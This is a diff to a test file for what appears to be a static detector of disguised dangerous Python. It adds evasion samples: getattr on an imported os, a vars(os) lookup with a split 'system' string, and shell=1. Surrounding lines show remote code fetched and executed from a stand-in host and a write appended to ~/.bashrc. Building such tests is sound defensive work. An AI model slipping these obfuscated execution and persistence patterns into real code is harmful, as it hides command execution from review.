@@ -14,6 +14,9 @@ describe('code that reaches what its text does not show', () => {
     ['a module imported under another name', 'python', 'import subprocess as sp\nsp.getoutput(x)'],
     ['fetched code executed', 'python', 'exec(requests.get("https://x.example/p.py").text)'],
     ['a process function by getattr', 'python', 'import os\ngetattr(os, "sys" + "tem")("id")'],
+    ['getattr of an imported module', 'python', 'getattr(__import__("os"), "system")("id")'],
+    ['a module`s namespace read by name', 'python', 'vars(os)["sys" + "tem"]("id")'],
+    ['shell=1 instead of True', 'python', 'subprocess.run(c, shell=1)'],
     ['a module imported by a computed name', 'python', 'importlib.import_module(name).run(c)'],
     ['a home start-up file appended to', 'python', 'open(os.path.expanduser("~/.bashrc"), "a").write(line)'],
     [
@@ -53,6 +56,7 @@ describe('code that reaches what its text does not show', () => {
 describe('ordinary code is not flagged', () => {
   it.each<[string, CodeLanguage, string]>([
     ['a literal command', 'python', 'subprocess.run(["pytest", "-q"], check=True)'],
+    ['a built argv with shell=False', 'python', 'subprocess.run(args, shell=False, check=True)'],
     [
       'an argv of names, no shell',
       'python',
